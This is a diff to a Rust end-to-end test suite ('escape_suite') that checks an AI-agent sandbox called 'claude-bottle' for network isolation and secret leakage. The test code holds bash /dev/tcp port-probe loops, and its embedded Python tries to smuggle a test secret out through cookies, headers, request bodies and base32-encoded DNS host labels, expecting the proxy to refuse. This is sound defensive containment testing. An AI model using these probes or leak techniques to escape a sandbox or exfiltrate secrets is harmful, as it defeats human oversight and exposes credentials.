@@ -10,8 +10,8 @@
 use std::net::TcpListener;
 
 use e2e::{
-    Bottle, Home, SshKeys, TestCa, container_ip, container_sh, docker, hunt_script,
-    start_git_upstream, start_upstream,
+    Bottle, Home, SshKeys, TestCa, container_ip, container_sh, docker, egress_network_of,
+    hunt_script, start_git_upstream, start_upstream,
 };
 
 const SECRET: &str = "TESTSECRETq7w2e9r4";
@@ -69,12 +69,15 @@ async fn escape_suite() {
     let git_upstream =
         start_git_upstream(&docker, &bottle.id, &bottle.network(), "gitup.test", &keys).await;
     let upstream_ip = container_ip(&docker, &upstream, &bottle.network()).await;
-    let neighbour_bundle_ip = container_ip(
-        &docker,
-        &format!("claude-bottle-{}-bundle", neighbour.id),
-        &neighbour.network(),
-    )
-    .await;
+    // Every bundle of the home is on one shared egress network.
+    let neighbour_bundle = format!("claude-bottle-{}-bundle", neighbour.id);
+    let egress = egress_network_of(&docker, &neighbour_bundle).await;
+    assert_eq!(
+        egress,
+        egress_network_of(&docker, &format!("claude-bottle-{}-bundle", bottle.id)).await,
+        "the two bottles' bundles are not on the same egress network"
+    );
+    let neighbour_bundle_ip = container_ip(&docker, &neighbour_bundle, &egress).await;
     assert!(!upstream_ip.is_empty() && !neighbour_bundle_ip.is_empty());
 
     // The agent can use its route (so the refusals below are not a broken bottle).
@@ -110,12 +113,13 @@ async fn escape_suite() {
     // anything else on the egress bridge) finds no listener that would use the bottle's
     // credentials, gate-held keys or supervise queue. ---
     let bundle_name = format!("claude-bottle-{}-bundle", bottle.id);
-    let bundle_ip = container_ip(&docker, &bundle_name, &bottle.network()).await;
-    assert!(!bundle_ip.is_empty());
+    let bundle_ip = container_ip(&docker, &bundle_name, &egress).await;
+    let bundle_test_ip = container_ip(&docker, &bundle_name, &bottle.network()).await;
+    assert!(!bundle_ip.is_empty() && !bundle_test_ip.is_empty());
     let probe = format!(
-        "for p in 9099 9418 9100 8888 80 443; do \
-           timeout 2 bash -c \"exec 3<>/dev/tcp/{bundle_ip}/$p\" 2>/dev/null && echo ANSWERED $p; \
-         done; echo done"
+        "for a in {bundle_ip} {bundle_test_ip}; do for p in 9099 9418 9100 8888 80 443; do \
+           timeout 2 bash -c \"exec 3<>/dev/tcp/$a/$p\" 2>/dev/null && echo ANSWERED $a $p; \
+         done; done; echo done"
     );
     let as_nobody = std::process::Command::new("setpriv")
         .args([
@@ -138,6 +142,29 @@ async fn escape_suite() {
         "done",
         "a bundle port answers on the egress bridge"
     );
+    // --- Bundle to bundle: the shared egress network drops traffic between its containers.
+    // A reachable address with nothing listening refuses at once (exit 1); a dropped one lets
+    // the attempt time out (124). The same probe to the upstream on the test network, where
+    // traffic flows, is refused: the control. ---
+    let attempt = |ip: String| {
+        format!(
+            "for p in 9099 9418 9100; do timeout 2 bash -c \"exec 3<>/dev/tcp/{ip}/$p\" 2>/dev/null; echo $p:$?; done"
+        )
+    };
+    let to_neighbour =
+        container_sh(&docker, &bundle_name, &attempt(neighbour_bundle_ip.clone())).await;
+    assert_eq!(
+        to_neighbour.split_whitespace().collect::<Vec<_>>(),
+        ["9099:124", "9418:124", "9100:124"],
+        "one bundle reached another across the shared egress network"
+    );
+    let to_upstream = container_sh(&docker, &bundle_name, &attempt(upstream_ip.clone())).await;
+    assert_eq!(
+        to_upstream.split_whitespace().collect::<Vec<_>>(),
+        ["9099:1", "9418:1", "9100:1"],
+        "the control: the upstream on the test network should refuse at once"
+    );
+
     // And inside the bundle nothing listens on TCP beyond its own loopback.
     let listeners = container_sh(&docker, &bundle_name, "ss -Hltn && echo ss-ok").await;
     assert!(
@@ -331,7 +358,16 @@ async fn escape_suite() {
                 names || key.contains("host"),
                 "{key}: the refusal does not name TEST_SECRET"
             );
+        } else if key.contains("host label base32") {
+            // Random base32 text in a wildcard label is refused by its shape alone, whatever
+            // it spells (the bundle was never told the value).
+            assert_eq!(
+                status, 403,
+                "control {key}: a random-looking label went out"
+            );
         } else {
+            // The raw control is a plain name: the proxy looks it up (the upstream does not
+            // exist, so 502), where the secret's own spelling was refused before any lookup.
             assert_eq!(
                 status,
                 if key.contains("host") { 502 } else { 200 },
@@ -408,12 +444,13 @@ for value in {values:?}:
             note(f"{{value}} cookie {{name}}", requests.get("https://api.test/h", cookies={{"s": form}}), value)
         note(f"{{value}} header {{name}}", requests.get("https://api.test/h", headers={{"X-Leak": form}}), value)
         note(f"{{value}} body {{name}}", requests.post("https://api.test/b", data="d=" + form), value)
-    label = base64.b32encode(value.encode()).decode().rstrip("=").lower()
-    try:
-        r = requests.get(f"https://{{label}}.wild.test/")
-        res[f"{{value}} host label"] = [r.status_code, False, False]
-    except requests.exceptions.ProxyError as e:
-        res[f"{{value}} host label"] = [403 if "403" in str(e) else 0, False, False]
+    labels = {{"raw": value.lower(), "base32": base64.b32encode(value.encode()).decode().rstrip("=").lower()}}
+    for name, label in labels.items():
+        try:
+            r = requests.get(f"https://{{label}}.wild.test/")
+            res[f"{{value}} host label {{name}}"] = [r.status_code, False, False]
+        except requests.exceptions.ProxyError as e:
+            res[f"{{value}} host label {{name}}"] = [403 if "403" in str(e) else 0, False, False]
 print(json.dumps(res))
 "#
     )
